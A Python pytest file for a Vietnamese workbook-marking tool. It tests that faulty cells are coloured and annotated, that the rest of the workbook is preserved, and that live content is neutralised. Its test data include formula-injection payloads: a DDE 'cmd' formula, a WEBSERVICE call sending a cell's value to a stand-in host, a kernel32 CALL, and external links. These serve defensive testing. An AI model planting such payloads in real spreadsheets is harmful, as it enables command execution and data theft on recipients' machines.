"""The sender's own workbook with marks: faulty cells coloured, all else as it was."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter
import xlwt
from openpyxl import load_workbook

from lib.domain.errors import UnreadableFile
from lib.domain.intake.marks import Listing, Mark, starts_like_a_formula
from lib.domain.problems import Severity
from lib.files.marking.marked import marked_workbook
from lib.files.marking.safe_formulas import harmless
from lib.files.reading.reader import read
from tests.support.sheets import csv_bytes, xlsx
from tests.support.workbooks import members, zipped

LISTING = Listing(
    sheet="Lỗi cần sửa",
    notes=["Tệp “a”"],
    head=["Mức", "Ô", "Cột", "Điều đã thấy", "Cần làm"],
    rows=[["Phải sửa", "C5", "Số hộ", "Ô C5: “x”", "Ghi số"]],
)
FAULT = Mark(row=5, column=2, severity=Severity.ERROR, text="Ô C5: “x” không phải số. Ghi số.")
# The smallest picture: one transparent dot.
DOT = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000000000200"
    "01e221bc330000000049454e44ae426082"
)


def marked(content: bytes, *marks: Mark, sheet: str = "Biểu") -> tuple[bytes, bool]:
    return marked_workbook(
        content, sheet=sheet, marks=marks or (FAULT,), listing=LISTING, most_rows=1000
    )


def rich() -> bytes:
    """A workbook with everything that is easily lost."""
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer) as book:
        page = book.add_worksheet("Biểu")
        red = book.add_format({"font_color": "red", "num_format": "#,##0", "italic": True})
        page.merge_range("A1:D1", "BIỂU 01", book.add_format({"bold": True, "align": "center"}))
        page.write_row("A4", ["TT", "Xã", "Số hộ", "Tổng"])
        page.write("A5", 1)
        page.write("B5", "Xã Lóng Sập")
        page.write_string("C5", "x", red)
        page.write_formula("D5", "=SUM(A5:A6)", red, 3)
        page.write("A6", 2)
        page.write_comment("B5", "Ghi chú của xã")
        page.data_validation("C5:C9", {"validate": "integer", "criteria": ">=", "value": 0})
        page.conditional_format(
            "C5:C9", {"type": "cell", "criteria": ">", "value": 9, "format": red}
        )
        page.insert_image("F2", "dot.png", {"image_data": io.BytesIO(DOT)})
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": "=Biểu!$A$5:$A$6"})
        page.insert_chart("F8", chart)
        page.freeze_panes(4, 2)
        page.set_column("B:B", 33)
        page.set_header("&CSơn La")
        page.autofilter("A4:D6")
        hidden = book.add_worksheet("Ẩn")
        hidden.write("A1", "giữ nguyên")
        hidden.hide()
        book.define_name("Vung", "=Biểu!$A$5:$A$6")
    return buffer.getvalue()


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert archive.testzip() is None
        return {n: archive.read(n) for n in archive.namelist()}


def test_a_faulty_cell_is_filled_and_noted_and_keeps_its_other_looks():
    done, own = marked(rich())

    cell = load_workbook(io.BytesIO(done))["Biểu"]["C5"]
    assert own
    assert cell.fill.fgColor.rgb == "FFF4B183"
    assert "không phải số" in cell.comment.text
    assert (cell.value, cell.font.italic, cell.number_format) == ("x", True, "#,##0")


def test_every_part_that_has_no_mark_stays_byte_for_byte():
    before, after = parts(rich()), parts(marked(rich())[0])

    changed = {n for n in before if after.get(n) != before[n]}

    assert changed == {
        "[Content_Types].xml",
        "xl/_rels/workbook.xml.rels",
        "xl/workbook.xml",
        "xl/styles.xml",
        "xl/worksheets/sheet1.xml",
        "xl/comments1.xml",
        "xl/drawings/vmlDrawing1.vml",
    }
    assert {n for n in after if n not in before} == {"xl/worksheets/sheet3.xml"}
    assert any("charts/chart" in n for n in after)
    assert any("media/image" in n for n in after)


def looks(cell: Any) -> tuple[str, ...]:
    return repr(cell.font), cell.number_format, repr(cell.border), repr(cell.alignment)


def test_the_marked_sheet_loses_nothing():
    before, after = (load_workbook(io.BytesIO(c)) for c in (rich(), marked(rich())[0]))
    old, new = before["Biểu"], after["Biểu"]

    for row in old.iter_rows():
        for cell in row:
            twin = new[cell.coordinate]
            assert twin.value == cell.value
            assert looks(twin) == looks(cell)
            assert cell.coordinate == "C5" or repr(twin.fill) == repr(cell.fill)
    assert new.merged_cells.ranges == old.merged_cells.ranges
    assert len(new.data_validations.dataValidation) == 1
    assert len(new.conditional_formatting) == 1
    assert (new.freeze_panes, new.auto_filter.ref) == (old.freeze_panes, old.auto_filter.ref)
    assert new.column_dimensions["B"].width == old.column_dimensions["B"].width
    assert new.oddHeader.center.text == "Sơn La"
    assert new["B5"].comment.text.strip() == "Ghi chú của xã"
    assert len(new._charts) == len(new._images) == 1
    assert after["Ẩn"].sheet_state == "hidden"
    assert "Vung" in after.defined_names
    assert new["D5"].value == "=SUM(A5:A6)"


def test_the_last_sheet_lists_all_problems_with_a_jump_to_the_cell():
    book = load_workbook(io.BytesIO(marked(rich())[0]))

    page = book[book.sheetnames[-1]]

    assert page.title == "Lỗi cần sửa"
    assert [c.value for c in page[3]] == LISTING.rows[0]
    assert page["B3"].hyperlink.location == "'Biểu'!C5"


def test_the_values_read_back_are_those_that_were_sent():
    sent, back = read(rich())[0], read(marked(rich())[0])[0]

    assert [list(r) for r in back.rows] == [list(r) for r in sent.rows]


def test_a_cell_that_was_not_there_is_marked_in_its_place():
    content = xlsx(("a", "b", "c"), ("x", None, "z"), name="Biểu")
    asked = (
        Mark(row=2, column=1, severity=Severity.WARN, text="trống"),
        Mark(row=7, column=3, severity=Severity.ASK, text="xa"),
    )

    page = load_workbook(io.BytesIO(marked(content, *asked)[0]))["Biểu"]

    assert page["B2"].comment.text == "trống"
    assert page["D7"].comment.text == "xa"
    assert (page["A2"].value, page["C2"].value) == ("x", "z")


def test_a_note_that_stands_there_already_is_added_to():
    mark = Mark(row=5, column=1, severity=Severity.ERROR, text="Tên lạ")

    page = load_workbook(io.BytesIO(marked(rich(), mark)[0]))["Biểu"]

    assert "Ghi chú của xã" in page["B5"].comment.text
    assert "Tên lạ" in page["B5"].comment.text


# --- nothing that is live goes out


def with_formula(formula: str, value: Any = "bấm đây") -> bytes:
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer) as book:
        page = book.add_worksheet("Biểu")
        page.write_row("A4", ["TT", "Xã", "Số hộ"])
        page.write_formula("B5", formula, None, value)
        page.write_formula("A5", "=SUM(A1:A3)", None, 6)
        other = book.add_worksheet("Khác")
        other.write_formula("A1", formula, None, value)
    return buffer.getvalue()


LIVE = [
    '=HYPERLINK("http://x.example","bấm đây")',
    '=WEBSERVICE("http://x.example/?"&A1)',
    "=cmd|'/C calc'!A0",
    "='[1]Sheet1'!A1",
    "=[1]Sheet1!A1",
    '=IF(TRUE,HYPERLINK("http://x"),"")',
    '=CALL("kernel32","x")',
    "=_xlfn.FILTERXML(A1,B1)",
]


@pytest.mark.parametrize("formula", LIVE)
def test_a_formula_that_reaches_out_is_given_back_as_what_it_showed(formula: str):
    done, _ = marked(with_formula(formula))

    book = load_workbook(io.BytesIO(done))
    assert book["Biểu"]["B5"].value == book["Khác"]["A1"].value == "bấm đây"
    assert book["Biểu"]["B5"].data_type == book["Khác"]["A1"].data_type == "s"
    assert book["Biểu"]["A5"].value == "=SUM(A1:A3)"
    assert all(b"HYPERLINK" not in x and b"cmd|" not in x for x in parts(done).values())


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(C5:C9)",
        'IF(C5>0,D5/C5,"")',
        "SUBTOTAL(9,C5:C9)+'Trang 2'!B1",
        'VLOOKUP(B5,Bang1[Tên],2,FALSE)&"[1]"',
        "ROUND(C5*100,1)",
    ],
)
def test_a_formula_that_only_reckons_stays(formula: str):
    assert harmless(formula)


def test_a_link_to_the_outside_is_cut_and_its_words_stay():
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer) as book:
        page = book.add_worksheet("Biểu")
        page.write_url("B5", "http://x.example/", string="bấm đây")
        page.write("C5", "x")

    done, own = marked(buffer.getvalue())

    assert own
    assert load_workbook(io.BytesIO(done))["Biểu"]["B5"].value == "bấm đây"
    assert all(b"x.example" not in content for content in parts(done).values())


@pytest.mark.parametrize(
    "part", ["xl/externalLinks/externalLink1.xml", "xl/embeddings/a.bin", "xl/connections.xml"]
)
def test_a_file_with_parts_that_reach_out_is_built_anew_from_its_cells(part: str):
    given = parts(rich()) | {part: b"<x/>"}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in given.items():
            archive.writestr(name, content)

    done, own = marked(buffer.getvalue())

    assert not own
    assert part not in parts(done)
    page = load_workbook(io.BytesIO(done))["Biểu"]
    assert page["C5"].comment
    assert page["B5"].value == "Xã Lóng Sập"


HOSTILE = ["=1+1", '=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_held_as_text(text: str):
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, {"strings_to_formulas": False}) as book:
        book.add_worksheet("Biểu").write_string("B5", text)

    done, own = marked(buffer.getvalue())

    cell = load_workbook(io.BytesIO(done))["Biểu"]["B5"]
    assert own
    assert cell.value == text
    assert cell.quotePrefix
    assert b"<f>" not in parts(done)["xl/worksheets/sheet1.xml"]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_of_a_csv_never_becomes_a_formula(text: str):
    content = csv_bytes([("TT", "Xã", "Số hộ"), ("1", text, "x")])

    done, own = marked(
        content, Mark(row=2, column=2, severity=Severity.ERROR, text=text), sheet="CSV"
    )

    assert not own
    page = load_workbook(io.BytesIO(done))["CSV"]
    assert page["B2"].value == text
    assert page["B2"].number_format == "@"
    assert b"<f>" not in b"".join(parts(done).values())


@pytest.mark.parametrize("text", ["-", "-5", "+1.250", "- Học sinh"[:1], "", "Bản"])
def test_ordinary_text_is_no_formula(text: str):
    assert not starts_like_a_formula(text)


def test_an_old_workbook_is_built_anew_with_merges_and_marks():
    book = xlwt.Workbook()
    page = book.add_sheet("Biểu")
    page.write_merge(0, 0, 0, 3, "BIỂU 01")
    page.write(4, 1, "Xã Lóng Sập")
    page.write(4, 2, "x")
    buffer = io.BytesIO()
    book.save(buffer)

    done, own = marked(buffer.getvalue())

    page = load_workbook(io.BytesIO(done))["Biểu"]
    assert not own
    assert page["A1"].value == "BIỂU 01"
    assert (page["C5"].value, bool(page["C5"].comment)) == ("x", True)


def test_many_marks_keep_the_notes_within_bounds():
    rows = [("a", "b", "c")] * 3000
    marks = [Mark(row=n, column=2, severity=Severity.ERROR, text="x") for n in range(1, 3001)]

    page = load_workbook(io.BytesIO(marked(xlsx(*rows, name="Biểu"), *marks)[0]))["Biểu"]

    assert page["C3000"].fill.fgColor.rgb == "FFF4B183"
    assert page["C3000"].comment is None
    assert page["C2000"].comment


def test_every_sample_of_an_office_can_be_marked():
    for path in sorted((Path(__file__).parent / "samples").glob("*")):
        if path.suffix not in (".xlsx", ".xls", ".ods", ".csv"):
            continue
        sheet = read(path.read_bytes())[0].name
        done, _ = marked(path.read_bytes(), sheet=sheet)
        assert "Lỗi cần sửa" in load_workbook(io.BytesIO(done)).sheetnames, path.name


@pytest.mark.parametrize("part", sorted(parts(rich())))
@pytest.mark.parametrize("harm", [b"", b"<x/>", b"<a><b></a>", b"\x00\xff"], ids=repr)
def test_a_damaged_part_gives_a_workbook_or_a_calm_refusal(part: str, harm: bytes):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in (parts(rich()) | {part: harm}).items():
            archive.writestr(name, content)

    try:
        done, _ = marked(buffer.getvalue())
    except UnreadableFile:
        return
    assert parts(done)


def test_a_workbook_with_parts_in_unusual_places_is_built_anew_from_its_cells():
    parts, links = members(), "xl/_rels/workbook.xml.rels"
    odd = parts[links].replace('"/xl/worksheets/', '"../xl/worksheets/')
    assert odd != parts[links]

    usual = marked(zipped(parts), sheet="Sheet1")
    anew = marked(zipped(parts | {links: odd}), sheet="Sheet1")

    assert (usual[1], anew[1]) == (True, False)
    assert "Xã Lóng Sập" in [
        cell.value for row in load_workbook(io.BytesIO(anew[0]))["Sheet1"] for cell in row
    ]
